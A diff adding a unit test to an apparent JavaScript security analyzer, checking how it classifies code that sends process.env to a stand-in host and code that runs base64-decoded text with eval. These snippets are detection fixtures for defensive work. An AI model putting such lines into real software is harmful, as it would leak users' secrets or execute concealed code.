@@ -47,6 +47,20 @@ class JavaScriptReaderTest {
   }
 
   @Test
+  void tellsTheProgramsOfABundleApart() {
+    String far = "a;".repeat(160_000);
+    assertThat(
+            told(
+                "require('https');\nsend(process.env);\n"
+                    + far
+                    + "\nfetch('https://c.example/x');\n"))
+        .containsExactly("RECEIVES https://c.example/x [] a.js:4");
+    assertThat(
+            told(far + "\nrequire('https');\nsend(process.env);\nfetch('https://c.example/x');\n"))
+        .containsExactly("SENDS https://c.example/x [ENVIRONMENT] a.js:4");
+  }
+
+  @Test
   void readsTextThatIsDecodedAndRun() {
     assertThat(told("const vm = require('vm');\neval(Buffer.from(x, 'base64').toString());\n"))
         .containsExactly("EXECUTES_TEXT eval [DECODED] a.js:2");
